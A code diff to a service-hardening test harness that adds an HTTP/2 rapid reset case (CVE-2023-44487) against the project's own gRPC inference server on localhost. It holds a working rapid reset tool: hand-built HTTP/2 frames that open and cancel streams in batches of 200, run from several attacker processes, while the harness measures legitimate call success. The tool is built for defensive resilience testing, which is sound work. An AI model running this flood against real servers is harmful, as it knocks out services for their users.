@@ -43,6 +43,12 @@ aside. The settings used are printed first.
     f3: 8 JSON bombs at once on ``/infer`` (``data`` of 3.5 million ``{}``, 10 MiB; and the largest that fits the
         route's body limit): the peak RSS. Goal: <= +200 MB.
     The server keeps answering ``/v2/health/live`` after each (checked).
+(g) Issue 24, the gRPC and admission cases (on the main server):
+    g1: HTTP/2 rapid reset: ``--g-attackers`` raw HTTP/2 connections (default 2, each its own process) open a stream
+        with HEADERS for ``Infer`` and reset it at once (RST_STREAM CANCEL), in batches of 200, as fast as they can
+        for ``--g-seconds``; meanwhile one legitimate client calls ``Infer`` every 0.5 s (5 s deadline) on its own
+        connection. Figures: the legitimate calls that succeeded, the streams the attackers opened per second, the
+        server's CPU-seconds, what the attackers got back (REFUSED_STREAM resets, GOAWAY). Goal: >= 99% succeed.
 
 Today's figure is printed next to each goal. A section that cannot run (a server that does not start, a client
 library that fails) is reported, not raised; a non-zero exit status means only that the server did not start.
@@ -90,6 +96,7 @@ GOALS = {
     "f1": "CPU-seconds one upload can cost (progressive-JPEG scan bomb, and the most scans accepted): <= 2",
     "f2": "RSS added by 100 unauthenticated held 10 MiB bodies (API keys on): <= +50 MB",
     "f3": "RSS added by 8 concurrent JSON bombs on /infer: <= +200 MB",
+    "g1": "legitimate Infer success during an HTTP/2 rapid reset from 2 connections: >= 99%",
 }
 
 
@@ -1287,6 +1294,145 @@ def _f3(server: "Server", model: str, key: str, settings: Dict[str, Any], args) 
                                 f"{'/'.join(r['answers'])}" for r in f3_rows)}
 
 
+# ====================================================================================== (g) gRPC, admission
+def _h2_frame(ftype: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload
+
+
+def _hpack_literal(headers: Sequence[Tuple[str, str]]) -> bytes:
+    """A header block of literal fields never indexed (RFC 7541 6.2.3, no Huffman): the same bytes on every
+    stream, whatever the server's dynamic table holds."""
+    def string(v: bytes) -> bytes:
+        assert len(v) < 127
+        return bytes([len(v)]) + v
+
+    return b"".join(b"\x10" + string(k.encode()) + string(v.encode()) for k, v in headers)
+
+
+def rapid_reset(port: int, seconds: float, path: str = "/splitinfer.v1.SplitInference/Infer",
+                batch: int = 200) -> Dict[str, Any]:
+    """One HTTP/2 connection that opens streams (HEADERS) and resets each at once (RST_STREAM CANCEL), ``batch``
+    at a time, for ``seconds`` (CVE-2023-44487). Returns the streams sent and what came back: RST_STREAM codes,
+    GOAWAY, the connection closed."""
+    block = _hpack_literal([(":method", "POST"), (":scheme", "http"), (":path", path),
+                            (":authority", f"127.0.0.1:{port}"), ("content-type", "application/grpc"),
+                            ("te", "trailers")])
+    got: Dict[str, Any] = {"sent": 0, "rst_codes": {}, "goaway": None, "closed": False, "error": None}
+    sk = socket.create_connection(("127.0.0.1", port), timeout=10)
+    sk.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    lock = threading.Lock()
+
+    def send(data: bytes) -> None:
+        with lock:
+            sk.sendall(data)
+
+    def reader() -> None:
+        buf = b""
+        try:
+            while True:
+                d = sk.recv(1 << 16)
+                if not d:
+                    break
+                buf += d
+                while len(buf) >= 9:
+                    n, ftype, flags = int.from_bytes(buf[:3], "big"), buf[3], buf[4]
+                    if len(buf) < 9 + n:
+                        break
+                    payload, buf = buf[9:9 + n], buf[9 + n:]
+                    if ftype == 4 and not flags & 1:  # SETTINGS: acknowledge
+                        send(_h2_frame(4, 1, 0))
+                    elif ftype == 3 and n == 4:  # RST_STREAM from the server
+                        code = int.from_bytes(payload, "big")
+                        got["rst_codes"][code] = got["rst_codes"].get(code, 0) + 1
+                    elif ftype == 7 and n >= 8:  # GOAWAY
+                        got["goaway"] = int.from_bytes(payload[4:8], "big")
+        except OSError:
+            pass
+        got["closed"] = True
+
+    send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _h2_frame(4, 0, 0))
+    threading.Thread(target=reader, daemon=True).start()
+    stream, cancel = 1, struct.pack(">I", 8)
+    t_end = time.monotonic() + seconds
+    try:
+        while time.monotonic() < t_end and not got["closed"]:
+            out = []
+            for _ in range(batch):
+                out += [_h2_frame(1, 4, stream, block), _h2_frame(3, 0, stream, cancel)]  # END_HEADERS; CANCEL
+                stream += 2
+            send(b"".join(out))
+            got["sent"] += batch
+    except OSError as e:
+        got["error"] = short(e, 80)
+    time.sleep(0.2)  # the last answers
+    with contextlib.suppress(OSError):
+        sk.close()
+    return got
+
+
+def _rapid_reset_process(port: int, seconds: float) -> "subprocess.Popen":
+    code = ("import json, sys; sys.path.insert(0, %r); import service_hardening as sh; "
+            "print(json.dumps(sh.rapid_reset(%d, %r)))" % (str(HERE), port, seconds))
+    return subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                            cwd=str(HERE), text=True)
+
+
+def _g1(server: "Server", model: str, msg: bytes, args) -> Dict[str, Any]:
+    import grpc
+
+    from shared._proto import splitinfer_pb2 as pb, splitinfer_pb2_grpc as pb_grpc
+
+    channel = grpc.insecure_channel(f"127.0.0.1:{server.grpc_port}")
+    stub = pb_grpc.SplitInferenceStub(channel)
+    stub.Infer(pb.InferRequest(model=model, bitstream=msg), timeout=60)  # connected and warm
+    server.wait_idle()
+    c0 = server.cpu_s()
+    attackers = [_rapid_reset_process(server.grpc_port, args.g_seconds) for _ in range(args.g_attackers)]
+    time.sleep(1.0)  # the attack under way
+    outcomes: Dict[str, int] = {}
+    t_end = time.monotonic() + args.g_seconds - 1.5
+    while time.monotonic() < t_end:
+        t0 = time.monotonic()
+        try:
+            stub.Infer(pb.InferRequest(model=model, bitstream=msg), timeout=5.0)
+            k = "OK"
+        except grpc.RpcError as e:
+            k = f"{grpc_code(e)} ({dict(e.trailing_metadata() or ()).get('splitinfer-error-kind', 'no kind')})"
+        outcomes[k] = outcomes.get(k, 0) + 1
+        time.sleep(max(0.0, 0.5 - (time.monotonic() - t0)))
+    reports = []
+    for a in attackers:
+        try:
+            out, err = a.communicate(timeout=args.g_seconds + 30)
+            reports.append(json.loads(out.strip().splitlines()[-1]) if out.strip() else {"error": err[-300:]})
+        except Exception as e:  # noqa: BLE001
+            a.kill()
+            reports.append({"error": short(e, 120)})
+    cpu = (server.cpu_s() or 0) - (c0 or 0)
+    channel.close()
+    n = sum(outcomes.values())
+    ok = outcomes.get("OK", 0)
+    streams = sum(r.get("sent", 0) for r in reports)
+    refused = sum(int(v) for r in reports for c, v in r.get("rst_codes", {}).items() if str(c) == "7")
+    goaways = sum(1 for r in reports if r.get("goaway") is not None)
+    alive = server.health_grpc(5.0)[0]
+    share = ok / n if n else 0.0
+    fig = (f"{ok} of {n} legitimate Infer OK ({100 * share:.1f}%) while {len(reports)} connections opened and reset "
+           f"{streams / args.g_seconds:,.0f} streams/s ({refused:,} REFUSED_STREAM, {goaways} GOAWAY); server "
+           f"{cpu:.1f} CPU-s over {args.g_seconds:g} s; outcomes {outcomes}; health after: {alive}")
+    print(f"  g1 {fig}", flush=True)
+    return {"outcomes": outcomes, "attackers": reports, "server_cpu_s": round(cpu, 2), "health_after": alive,
+            "met": n > 0 and share >= 0.99 and alive, "figure": fig}
+
+
+def section_g(server: "Server", model: str, msg: bytes, args) -> Dict[str, Any]:
+    out: Dict[str, Any] = {}
+    cases = set(args.g_cases.replace(" ", "").split(","))
+    if "g1" in cases:
+        out["g1"] = _g1(server, model, msg, args)
+    return out
+
+
 # ====================================================================================== main
 def server_setting(root: Path, env: Dict[str, str], name: str) -> Optional[Any]:
     """One setting as the server at ``root`` reads it with ``env`` (in a subprocess: that checkout's code)."""
@@ -1307,7 +1453,7 @@ def main(argv: Optional[List[str]] = None) -> int:
     p.add_argument("--weights", default=None, help="backbone weights file (default: pretrained)")
     p.add_argument("--images", default=str(fz.SAMPLES), help="images for the valid bitstreams (default: samples)")
     p.add_argument("--server-root", default=None, help="run the server from this checkout (default: this one)")
-    p.add_argument("--only", default="a,b,c,d,e,f", help="sections to run (b and c run together)")
+    p.add_argument("--only", default="a,b,c,d,e,f,g", help="sections to run (b and c run together)")
     p.add_argument("--capacity", type=int, default=0,
                    help="(e) capacity C: the server's max_concurrent_requests is set to it (default 0: the server's "
                         "own setting)")
@@ -1322,6 +1468,9 @@ def main(argv: Optional[List[str]] = None) -> int:
     p.add_argument("--slowloris-s", type=float, default=15.0, help="(b) how long slow connections try (default 15)")
     p.add_argument("--case-timeout", type=float, default=60.0, help="(b) client timeout per abuse case")
     p.add_argument("--f-cases", default="f1,f2,f3", help="(f) which of its cases to run (default all)")
+    p.add_argument("--g-cases", default="g1", help="(g) which of its cases to run (default all)")
+    p.add_argument("--g-seconds", type=float, default=10.0, help="(g1) seconds of rapid reset (default 10)")
+    p.add_argument("--g-attackers", type=int, default=2, help="(g1) attacking connections (default 2)")
     p.add_argument("--server-env", action="append", default=[], metavar="KEY=VALUE", help="more server settings")
     p.add_argument("--json", default=None, help="write every figure here")
     p.add_argument("-v", "--verbose", action="store_true", help="print every abuse case, not only the failures")
@@ -1376,6 +1525,7 @@ def main(argv: Optional[List[str]] = None) -> int:
             ("b", "(b)+(c) adversarial list and upload RSS", lambda: section_bc(server, model, msg, args)),
             ("f", "(f) issue 24: scan bomb, held unauthenticated bodies, JSON bombs (a server with an API key)",
              lambda: _with_key_server(bundle, model, env, server_root, args)),
+            ("g", "(g) issue 24: HTTP/2 rapid reset", lambda: section_g(server, model, msg, args)),
         ]
         for key, title, fn in sections:
             if key not in only:
@@ -1431,9 +1581,10 @@ def _summary(results: Dict[str, Any]) -> None:
                                             ("c", "c", "figure", "met"), ("d", "d", "figure", "met"),
                                             ("e", "e1", "figure_share", "met_share"),
                                             ("e", "e2", "figure_ratio", "met_ratio"),
-                                            ("f", "f1", "", ""), ("f", "f2", "", ""), ("f", "f3", "", "")]:
+                                            ("f", "f1", "", ""), ("f", "f2", "", ""), ("f", "f3", "", ""),
+                                            ("g", "g1", "", "")]:
         r = results.get(key)
-        if key == "f" and r is not None and goal_key in r:
+        if key in ("f", "g") and r is not None and goal_key in r:
             r = r[goal_key]
             fig_key, met_key = "figure", "met"
         if r is None:
